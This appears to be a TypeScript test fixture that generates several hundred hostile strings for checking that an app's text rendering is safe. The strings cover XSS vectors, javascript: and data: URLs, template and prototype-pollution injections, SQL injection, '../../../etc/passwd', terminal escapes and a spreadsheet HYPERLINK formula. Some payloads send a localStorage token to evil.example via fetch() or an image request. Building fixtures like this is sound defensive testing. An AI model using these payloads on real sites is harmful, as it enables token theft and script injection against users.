/**
 * Several hundred texts that would run code, leave a frame of HTML or break a layout if anything took them as more
 * than text. Each tries to open a dialog or to send the token away.
 */
const DEEDS = [
  'alert(1)',
  'confirm(document.cookie)',
  "fetch('https://evil.example/?t='+localStorage.getItem('abhyas.token'))",
  "new Image().src='//evil.example/'+localStorage['abhyas.token']",
];

const ELEMENTS: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<SCRIPT SRC=data:text/javascript,${encodeURIComponent(deed)}></SCRIPT>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src=x:x onerror=${deed}//`,
  (deed) => `'"><img src=x onerror=${deed}>`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<math><mtext><script>${deed}</script></mtext></math>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">x</details>`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<embed src="data:text/html,<script>${deed}</script>">`,
  (deed) => `<form action="javascript:${deed}"><button>x</button></form>`,
  (deed) => `<button formaction="javascript:${deed}">x</button>`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `<a href="java\tscript:${deed}">x</a>`,
  (deed) => `<a href=" &#106;avascript:${deed}">x</a>`,
  (deed) => `<base href="https://evil.example/"><script>${deed}</script>`,
  (deed) => `<link rel=stylesheet href="https://evil.example/x.css"><script>${deed}</script>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<style>*{background:url("javascript:${deed}")}</style>`,
  (deed) => `<div style="background:url(javascript:${deed})">x</div>`,
  (deed) => `<marquee onstart="${deed}">x</marquee>`,
  (deed) => `<select autofocus onfocus="${deed}"><option>x</select>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `<![CDATA[<script>${deed}</script>]]>`,
  (deed) => `<p onpointerenter="${deed}" style="position:fixed;inset:0">x</p>`,
];

const TEXTS: readonly ((deed: string) => string)[] = [
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `vbscript:${deed}`,
  (deed) => `[x](javascript:${deed})`,
  (deed) => `![x](javascript:${deed})`,
  (deed) => `[x]: javascript:${deed}`,
  (deed) => `<javascript:${deed}>`,
  (deed) => `\`</code><script>${deed}</script>\``,
  (deed) => '```\n</code></pre><script>' + deed + '</script>\n```',
  (deed) => `https://x.example/"onmouseover="${deed}`,
  (deed) => `https://x.example/'><script>${deed}</script>`,
  (deed) => `http://javascript:${deed}@x.example`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `#{${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `{{7*7}}{% ${deed} %}`,
  (deed) => `__proto__[onload]=${deed}`,
  (deed) => `{"__proto__":{"innerHTML":"<img src=x onerror=${deed}>"}}`,
  (deed) => `{"dangerouslySetInnerHTML":{"__html":"<script>${deed}</script>"}}`,
  (deed) => `';${deed};//`,
  (deed) => `";${deed};//`,
  (deed) => `\\";${deed};//`,
  (deed) => `*/${deed}/*`,
  (deed) => `</style><script>${deed}</script>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  (deed) => `＜script＞${deed}＜/script＞`,
  (deed) => `‮<script>${deed}</script>‬`,
  (deed) => `<\u0000script>${deed}</\u0000script>`,
  (deed) => `<img src=x onerror=${deed}>${'\u0301'.repeat(20)}`,
  (deed) => `'; drop table comment; -- ${deed}`,
  (deed) => `\u001b]8;;javascript:${deed}\u0007x\u001b]8;;\u0007`,
  (deed) => `=HYPERLINK("javascript:${deed}")`,
];

const ODD = [
  'x'.repeat(400),
  'ऐसा'.repeat(100),
  '👩‍👩‍👧‍👦'.repeat(40),
  '\u200b\u200b\u200b.',
  'NaN null undefined [object Object]',
  '../../../etc/passwd',
  '%s%s%n',
  '{name} {title} {count}',
];

/** Each of them, a few hundred. */
export const HOSTILE: readonly string[] = [
  ...DEEDS.flatMap((deed) => [...ELEMENTS, ...TEXTS].map((make) => make(deed))),
  ...ODD,
];

/** Those short enough for a name. */
export const HOSTILE_NAMES: readonly string[] = [...ELEMENTS, ...TEXTS]
  .map((make) => make('alert(1)'))
  .filter((text) => text.length <= 80 && !/\p{Cc}/u.test(text));

/** Texts joined by blank lines, none longer than `max`, so that a few messages carry hundreds. */
export function bundles(strings: readonly string[], max: number): string[] {
  const found: string[] = [];
  for (const text of strings) {
    const joined = `${found.at(-1) ?? ''}\n\n${text}`;
    if (found.length > 0 && joined.length <= max) found[found.length - 1] = joined;
    else found.push(text);
  }
  return found;
}
